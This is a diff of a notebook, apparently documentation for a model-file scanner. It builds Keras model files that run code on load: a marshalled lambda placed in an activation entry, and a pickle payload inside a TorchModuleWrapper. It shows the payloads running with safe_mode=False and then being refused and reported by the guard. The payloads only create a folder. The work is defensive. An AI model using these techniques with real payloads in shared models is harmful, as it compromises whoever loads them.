@@ -5,12 +5,15 @@
 # # Keras: code in a layer, code in a configuration
 #
 # A `.keras` file looks harmless: a zip archive, a JSON configuration, an HDF5 file of numbers. But a `Lambda` layer in that
-# configuration carries compiled Python, and other entries name functions to fetch by module and name. Here each of the
-# two gets a payload, which only makes a folder called `marker`.
+# configuration carries compiled Python, and so may other entries. Here each kind gets a payload, which only makes a folder
+# called `marker`.
 
 # %%
+import base64
+import io
 import json
 import logging
+import marshal
 import os
 import subprocess
 import sys
@@ -52,37 +55,70 @@ marker.rmdir()  # building the layer has called it
 sorted(path.name for path in Path().iterdir())
 
 # %% [markdown]
-# The second kind needs an editor. `activation` of a layer is a name, and a configuration may give any module for it.
-# Keras up to 3.8 imported and called what it was given there (CVE-2025-1550); newer ones refuse, and models outlive them.
+# The others need an editor, and no `Lambda`. Any entry that may be a function may be code: here the activation of the
+# ordinary layer. And a `TorchModuleWrapper` keeps a whole PyTorch checkpoint in its configuration, as text; unpacking it
+# runs the pickle inside (CVE-2025-49655).
 
 # %%
-named = {"module": "os", "class_name": "function", "config": "makedirs", "registered_name": "makedirs"}
-with zipfile.ZipFile("clean.keras") as clean, zipfile.ZipFile("named.keras", "w") as target:
-    for member in clean.namelist():
-        data = clean.read(member)
-        if member == "config.json":
-            config = json.loads(data)
-            config["config"]["layers"][-1]["config"]["activation"] = named
-            data = json.dumps(config).encode()
-        target.writestr(member, data)
+code = compile("lambda x: (__import__('os').makedirs('marker', exist_ok=True), x)[1]", "<lambda>", "eval").co_consts[0]
+activation = {
+    "class_name": "__lambda__",
+    "config": {"value": [base64.b64encode(marshal.dumps(code)).decode(), None, None]},
+}
+
+checkpoint = io.BytesIO()
+with zipfile.ZipFile(checkpoint, "w") as archive:
+    archive.writestr("archive/data.pkl", b"cos\nmakedirs\n(Vmarker\ntR.")
+    archive.writestr("archive/version", b"3")
+wrapper = {
+    "module": "keras.layers",
+    "class_name": "TorchModuleWrapper",
+    "config": {"module": base64.b64encode(checkpoint.getvalue()).decode()},
+    "registered_name": None,
+}
+
+
+def edited(name, edit):
+    with zipfile.ZipFile("clean.keras") as clean, zipfile.ZipFile(name, "w") as target:
+        for member in clean.namelist():
+            data = clean.read(member)
+            if member == "config.json":
+                config = json.loads(data)
+                edit(config["config"]["layers"])
+                data = json.dumps(config).encode()
+            target.writestr(member, data)
+
+
+edited("activation.keras", lambda layers: layers[-1]["config"].update(activation=activation))
+edited("wrapper.keras", lambda layers: layers.append(wrapper))
 
 # %% [markdown]
-# Does it work? Somebody who was told to pass `safe_mode=False`, as many model cards say, loads them in a process without
-# a guard:
+# ### They are live
+#
+# Somebody who was told to pass `safe_mode=False`, as many model cards say, loads each in a process without a guard and
+# asks it for an answer:
 
-# %% tags=["ran-twice"]
-for name in ("lambda.keras", "lambda.h5"):
-    load = f"import keras; keras.saving.load_model({name!r}, safe_mode=False, compile=False)"
-    subprocess.run([sys.executable, "-c", load], check=True, capture_output=True)
-    print(f"{name:13} payload ran:", marker.exists())
-    marker.rmdir()
+# %% tags=["ran-each"]
+child = """
+import os, keras, numpy
+for name in ("lambda.keras", "lambda.h5", "activation.keras", "wrapper.keras"):
+    try:
+        model = keras.saving.load_model(name, safe_mode=False, compile=False)
+        model(numpy.ones((1, 2), "float32"))
+    except Exception:  # there is no module in the wrapper: it has run by then
+        pass
+    print(f"{name:17} payload ran: {os.path.exists('marker')}")
+    os.rmdir("marker")
+"""
+print(subprocess.run([sys.executable, "-c", child], capture_output=True, text=True, check=True).stdout, end="")
 
 # %% [markdown]
 # ## What the guard does
 #
 # `load_model` is guarded like any other loader, whatever `safe_mode` says. That switch alone has not been enough: Keras
-# ignored it for HDF5 files (CVE-2025-9905), and names in configurations have passed it (CVE-2025-1550, CVE-2025-8747,
-# CVE-2025-9906).
+# ignored it for HDF5 files (CVE-2025-9905), and names in configurations have passed it: Keras up to 3.8 imports any module
+# a layer names and calls a function out of it (CVE-2025-1550), newer ones did so with functions of Keras itself
+# (CVE-2025-8747, CVE-2025-9906). Models outlive versions, so files like that are refused here whatever Keras is installed.
 
 # %%
 # %load_ext modelscan
@@ -97,7 +133,10 @@ keras.saving.load_model("lambda.keras", safe_mode=False)
 keras.saving.load_model("lambda.h5", safe_mode=False)
 
 # %% tags=["raises-exception", "refused"]
-keras.saving.load_model("named.keras", safe_mode=False)
+keras.saving.load_model("activation.keras", safe_mode=False)
+
+# %% tags=["raises-exception", "refused"]
+keras.saving.load_model("wrapper.keras", safe_mode=False)
 
 # %% tags=["marker"]
 print("payload ran:", marker.exists())
@@ -105,8 +144,8 @@ print("payload ran:", marker.exists())
 # %% [markdown]
 # ## What the evidence says
 #
-# The same without Keras, in one line a file. The code of the layer was not unmarshalled to find that out: its names and
-# instructions are read from its bytes, which is why the report can say what it uses.
+# The same without Keras, in one line a file. The code was not unmarshalled to find that out: its names and instructions
+# are read from its bytes, which is why the report can say what it uses.
 
 # %% tags=["keras"]
 import modelscan
@@ -114,8 +153,8 @@ import modelscan
 for path in sorted(Path().iterdir()):
     report = modelscan.scan(path)
     worst = report.findings[0] if report.findings else None
-    about = f"{worst.severity} {worst.rule} {worst.expression[:60]}" if worst else ""
-    print(f"{path.name:14} {report.verdict:8} {about}")
+    about = f"{worst.severity} {worst.rule} {worst.expression[:56]}" if worst else ""
+    print(f"{path.name:17} {report.verdict:7} {about}")
 
 # %% [markdown]
 # ## Going on safely
